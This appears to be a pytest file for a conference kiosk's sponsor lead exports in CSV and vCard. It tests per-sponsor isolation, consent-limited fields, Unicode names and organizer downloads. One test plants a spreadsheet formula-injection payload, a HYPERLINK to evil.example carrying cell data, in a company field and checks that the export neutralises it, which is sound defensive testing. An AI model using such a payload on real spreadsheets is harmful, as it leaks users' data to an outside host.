"""Exports: a sponsor's own leads only, what each person shares and nothing more, inert in a spreadsheet, any script."""
from __future__ import annotations

import csv
import io

import vobject

from kiosk.attendees.service import update_attendee
from kiosk.db import db
from kiosk.models import Attendee
from tests.factories import make_attendee
from tests.leads.conftest import event_of


def _csv(response) -> list[dict]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 (accents, CJK) right
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _vcards(response) -> list:
    return list(vobject.readComponents(response.get_data(as_text=True)))


def test_the_csv_holds_the_sponsors_own_leads_with_shared_fields_only(acme, globex, booth):
    ana = acme.capture(booth["codes"]["Ana"]).get_json()["lead"]
    acme.send("PATCH", f"/leads/{ana['id']}", {"rating": "hot", "note": "Demo next week",
                                                "answers": {"Budget this year?": "50k"}})
    acme.capture(booth["codes"]["陽菜"])
    globex.capture(booth["codes"]["Ben"])  # Globex's lead: never in Acme's export
    rows = _csv(acme.get("/leads.csv"))
    assert list(rows[0]) == ["scanned_at", "first_name", "last_name", "email", "phone", "website", "company",
                             "title", "rating", "note", "Budget this year?", "Timeline?"]
    assert [r["first_name"] for r in rows] == ["Ana", "陽菜"]
    assert {k: rows[0][k] for k in ("email", "phone", "website", "company", "title", "rating", "note",
                                    "Budget this year?", "Timeline?")} == {
        "email": "ana@example.org", "phone": "", "website": "", "company": "Brightloop", "title": "",
        "rating": "hot", "note": "Demo next week", "Budget this year?": "50k", "Timeline?": ""}
    assert (rows[1]["last_name"], rows[1]["company"], rows[1]["email"]) == ("鈴木", "京都大学", "hina@example.jp")
    assert [r["first_name"] for r in _csv(globex.get("/leads.csv"))] == ["Ben"]
    assert _csv(globex.get("/leads.csv"))[0]["email"] == ""  # Ben shares nothing


def test_vcards_of_the_sponsors_own_leads_in_3_0_and_4_0(acme, globex, booth):
    ana = acme.capture(booth["codes"]["Ana"]).get_json()["lead"]
    acme.send("PATCH", f"/leads/{ana['id']}", {"rating": "warm", "note": "Wants pricing; call, Tuesday"})
    globex.capture(booth["codes"]["Ben"])
    cards = _vcards(acme.get("/leads.vcf"))
    assert len(cards) == 1
    card = cards[0]
    assert card.version.value == "3.0" and card.fn.value == "Ana García"
    assert card.email.value == "ana@example.org" and card.org.value == ["Brightloop"]
    assert card.note.value == "WARM · Wants pricing; call, Tuesday"
    assert not hasattr(card, "tel") and not hasattr(card, "title") and not hasattr(card, "url")
    v4 = acme.get("/leads.vcf?version=4.0")
    assert "VERSION:4.0" in v4.get_data(as_text=True) and _vcards(v4)[0].fn.value == "Ana García"
    assert acme.get("/leads.vcf?version=2.1").status_code == 422
    assert [c.fn.value for c in _vcards(globex.get("/leads.vcf"))] == ["Ben Okafor"]


def test_a_formula_in_a_company_is_inert_and_any_script_round_trips(app, acme, booth):
    with app.app_context():
        s = db.session
        evil = make_attendee(s, event_of(booth), first_name="نور", last_name="🦊 Fox",
                             company='=HYPERLINK("http://evil.example/?x="&A1,"Click")', consent_share=["company"])
        s.commit()
        code = f"https://give.example.org/b/{evil.badge_token}"
    acme.capture(code)
    row = _csv(acme.get("/leads.csv"))[0]
    assert row["company"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert (row["first_name"], row["last_name"]) == ("نور", "🦊 Fox")
    card = _vcards(acme.get("/leads.vcf"))[0]
    assert card.fn.value == "نور 🦊 Fox"


def test_a_consent_change_applies_to_the_next_export(app, acme, booth):
    acme.capture(booth["codes"]["Ana"])
    assert _csv(acme.get("/leads.csv"))[0]["email"] == "ana@example.org"
    with app.app_context():
        update_attendee(db.session, db.session.get(Attendee, booth["Ana"]), consent_share=["title"])
        db.session.commit()
    row = _csv(acme.get("/leads.csv"))[0]
    assert (row["email"], row["company"], row["title"]) == ("", "", "CTO")


def test_organizers_download_any_sponsors_export_from_admin(acme, globex, client, auth, booth):
    acme.capture(booth["codes"]["Ana"])
    globex.capture(booth["codes"]["Ben"])
    auth.login()
    base = f"/admin/events/{booth['slug']}/sponsors"
    acme_rows = _csv(client.get(f"{base}/{booth['acme']}/leads.csv"))
    assert [r["first_name"] for r in acme_rows] == ["Ana"]
    response = client.get(f"{base}/{booth['globex']}/leads.vcf")
    assert 'filename="globex-leads.vcf"' in response.headers["Content-Disposition"]
    assert [c.fn.value for c in _vcards(response)] == ["Ben Okafor"]
    api = client.get(f"/api/events/{booth['slug']}/leads.csv?sponsor={booth['globex']}")
    assert [r["first_name"] for r in _csv(api)] == ["Ben"]
    assert client.get(f"{base}/999/leads.csv").status_code == 404
